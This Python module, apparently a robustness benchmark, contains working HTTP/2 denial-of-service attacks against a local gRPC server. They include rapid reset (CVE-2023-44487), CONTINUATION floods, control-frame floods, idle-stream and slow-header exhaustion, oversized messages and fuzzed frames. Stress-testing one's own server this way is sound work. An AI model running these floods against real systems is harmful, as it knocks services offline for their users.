"""Attacks over HTTP/2: each sends for a limited time what a good client never sends.

All write frames by hand to an address on loopback, and are bounded in connections and time. Each
returns counts of what it did, and of the statuses it received, as far as it can read them.
"""

import contextlib
import random
import select
import socket
import time
from collections import Counter
from collections.abc import Callable, Iterator

import grpc

from gnomon.bench.servers import http2_frames as http2
from gnomon.bench.servers.serving_package import make_request

__all__ = ["ATTACKS", "Attack"]

Attack = Callable[[str, float], Counter[str]]

_MANY_CONNECTIONS = 1_000
_STREAMS = 100
_SLOW_CONNECTIONS = 400
_PIECE = b"x" * 16_000


def _is_open(until: float) -> bool:
    return time.monotonic() < until


@contextlib.contextmanager
def _connections(address: str, count: int) -> Iterator[list[http2.Http2Connection]]:
    """Open as many connections as are let in; close them in the end."""
    opened: list[http2.Http2Connection] = []
    try:
        for _ in range(count):
            with contextlib.suppress(OSError):
                opened.append(http2.Http2Connection(address))
        yield opened
    finally:
        for one in opened:
            one.close()


def _again(
    address: str, until: float, say: Callable[[http2.Http2Connection], None]
) -> Counter[str]:
    """Say something on one connection after the other, each until the server cuts it."""
    done: Counter[str] = Counter()
    while _is_open(until):
        done["connections"] += 1
        with contextlib.suppress(OSError):
            raw = http2.Http2Connection(address)
            raw.socket.settimeout(1.0)
            try:
                while _is_open(until):
                    say(raw)
                    done["turns"] += 1
            finally:
                raw.close()
    return done


def _read_what_is_there(raw: http2.Http2Connection) -> None:
    """Take what has come, so that the server is not held up by us; raises if it has closed."""
    while select.select([raw.socket], [], [], 0)[0]:
        if not raw.socket.recv(1 << 16):
            raise ConnectionError


def stops_reading(address: str, until: float) -> Counter[str]:
    """Send as many requests as many connections allow, and never read an answer."""
    request = make_request()
    calls = b"".join(http2.call(2 * turn + 1, request) for turn in range(60))
    done: Counter[str] = Counter()
    host, _, port = address.rpartition(":")
    opened: list[socket.socket] = []
    try:
        while _is_open(until):
            if len(opened) < 200:
                with contextlib.suppress(OSError):
                    one = socket.socket()
                    one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4_096)
                    one.settimeout(0.2)
                    one.connect((host, int(port)))
                    one.sendall(http2.PREFACE + http2.frame(http2.SETTINGS, 0, 0) + calls)
                    opened.append(one)
                    done["connections"] += 1
            else:
                time.sleep(0.05)
    finally:
        for one in opened:
            one.close()
    return done


def rapid_reset(address: str, until: float) -> Counter[str]:
    """Open streams and take them back at once (CVE-2023-44487)."""
    block = http2.block(http2.request_headers())
    stream = [1]

    def say(raw: http2.Http2Connection) -> None:
        frames = b""
        for _ in range(50):
            frames += http2.frame(http2.HEADERS, http2.END_HEADERS, stream[0], block)
            frames += http2.frame(http2.RST_STREAM, 0, stream[0], b"\0\0\0\x08")
            stream[0] += 2
        raw.send(frames)
        _read_what_is_there(raw)

    return _restarting(address, until, say, stream)


def _restarting(
    address: str, until: float, say: Callable[[http2.Http2Connection], None], stream: list[int]
) -> Counter[str]:
    done: Counter[str] = Counter()
    while _is_open(until):
        stream[0] = 1
        done += _again(address, min(until, time.monotonic() + 0.5), say)
    return done


def continuation_flood(address: str, until: float) -> Counter[str]:
    """Begin headers that never end (CVE-2024-27316 and its kin)."""
    start = http2.frame(http2.HEADERS, 0, 1, http2.block(http2.request_headers()))
    field = http2.block([("x-" + "y" * 100, "z" * 1_000)])
    more = http2.frame(http2.CONTINUATION, 0, 1, field) * 20
    empty = http2.frame(http2.CONTINUATION, 0, 1) * 200
    begun: set[int] = set()

    def say(raw: http2.Http2Connection) -> None:
        if id(raw) not in begun:
            begun.clear()
            begun.add(id(raw))
            raw.send(start)
        raw.send(random.choice((more, empty)))  # noqa: S311
        _read_what_is_there(raw)

    return _again(address, until, say)


def control_floods(address: str, until: float) -> Counter[str]:
    """Send pings, settings and window updates that want an answer or a look each."""
    frames = http2.frame(http2.PING, 0, 0, b"whatever") * 100
    frames += http2.frame(http2.SETTINGS, 0, 0, b"\0\3\0\0\0\x64") * 100
    frames += http2.frame(8, 0, 0, b"\0\0\0\1") * 100

    def say(raw: http2.Http2Connection) -> None:
        raw.send(frames)

    return _again(address, until, say)


def idle_streams(address: str, until: float) -> Counter[str]:
    """Open a hundred thousand streams over a thousand connections, and leave them idle."""
    block = http2.block(http2.request_headers())
    streams = b"".join(
        http2.frame(http2.HEADERS, http2.END_HEADERS, 2 * turn + 1, block)
        for turn in range(_STREAMS)
    )
    done: Counter[str] = Counter()
    with _connections(address, _MANY_CONNECTIONS) as opened:
        for one in opened:
            with contextlib.suppress(OSError):
                one.send(streams)
                done["streams"] += _STREAMS
        done["connections"] = len(opened)
        while _is_open(until):
            time.sleep(0.05)
    return done


def slow_headers(address: str, until: float) -> Counter[str]:
    """Send headers byte by byte, on many connections."""
    head = http2.frame(http2.HEADERS, http2.END_HEADERS, 1, http2.block(http2.request_headers()))
    done: Counter[str] = Counter()
    with _connections(address, _SLOW_CONNECTIONS) as opened:
        at = 0
        while _is_open(until):
            for one in opened:
                with contextlib.suppress(OSError):
                    one.send(head[at % (len(head) - 1) :][:1])
                    done["bytes"] += 1
            at += 1
            time.sleep(0.1)
        done["connections"] = len(opened)
    return done


def huge_messages(address: str, until: float) -> Counter[str]:
    """Announce a message of 1 GB and send it, as far as one is let; and many that are allowed."""
    head = http2.frame(http2.HEADERS, http2.END_HEADERS, 1, http2.block(http2.request_headers()))
    sizes = (1 << 30, (16 << 20) - 64)
    begun: set[int] = set()
    turn = [0]

    def say(raw: http2.Http2Connection) -> None:
        if id(raw) not in begun:
            begun.clear()
            begun.add(id(raw))
            turn[0] += 1
            size = sizes[turn[0] % 2]
            raw.send(head + http2.frame(http2.DATA, 0, 1, b"\0" + size.to_bytes(4, "big")))
        raw.send(http2.frame(http2.DATA, 0, 1, _PIECE) * 8)

    return _again(address, until, say)


def broken_frames(address: str, until: float) -> Counter[str]:
    """Send conversations cut off anywhere, and with bytes changed."""
    chance = random.Random(7)  # noqa: S311
    request = make_request()
    good = http2.PREFACE + http2.frame(http2.SETTINGS, 0, 0)
    good += b"".join(http2.call(2 * turn + 1, request) for turn in range(3))
    done: Counter[str] = Counter()
    while _is_open(until):
        data = bytearray(good[: chance.randint(1, len(good))] if chance.random() < 0.3 else good)
        for _ in range(chance.randint(0, 4)):
            data[chance.randrange(len(data))] = chance.randrange(256)
        with contextlib.suppress(OSError):
            raw = http2.Http2Connection(address, greets=False)
            raw.send(bytes(data))
            list(raw.frames(0.002))
            raw.close()
        done["connections"] += 1
    return done


def broken_messages(address: str, until: float) -> Counter[str]:
    """Send whole calls whose protobuf is cut off, changed, or anything; note the statuses."""
    chance = random.Random(11)  # noqa: S311
    good = make_request()
    done: Counter[str] = Counter()
    with grpc.insecure_channel(address) as channel:
        method = channel.unary_unary(http2.INFER)
        while _is_open(until):
            data = bytearray(good)
            fate = chance.random()
            if fate < 0.2:
                data = data[: chance.randrange(len(data))]
            elif fate < 0.4:
                data = bytearray(chance.randbytes(chance.randint(0, 400)))
            for _ in range(chance.randint(0, 5)):
                if data:
                    data[chance.randrange(len(data))] = chance.randrange(256)
            try:
                method(bytes(data), timeout=10)
                done["OK"] += 1
            except grpc.RpcError as error:
                status: grpc.StatusCode = error.code()
                done[status.name] += 1
    return done


#: By what they are called in the table.
ATTACKS: dict[str, Attack] = {
    "stops reading": stops_reading,
    "rapid reset": rapid_reset,
    "CONTINUATION flood": continuation_flood,
    "PING, SETTINGS, WINDOW_UPDATE floods": control_floods,
    "100,000 idle streams": idle_streams,
    "slow headers": slow_headers,
    "1 GB messages": huge_messages,
    "broken frames": broken_frames,
    "broken protobuf": broken_messages,
}
